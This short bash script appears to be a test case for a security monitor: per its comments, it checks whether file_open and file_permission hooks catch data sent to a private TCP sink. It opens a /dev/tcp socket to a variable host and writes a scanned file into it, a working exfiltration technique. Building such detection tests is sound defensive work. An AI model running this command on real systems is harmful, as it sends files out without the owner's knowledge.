#!/usr/bin/env bash
# technique: the shell holds a connected socket as descriptor 9, cat writes to it (write, not send)
# hooks: file_open (of the scan), file_permission
# sink: private-tcp

. attack.sh
exec 9>"/dev/tcp/$PRIVATE_HOST/$PORT_TCP"
cat "$SCAN" >&9
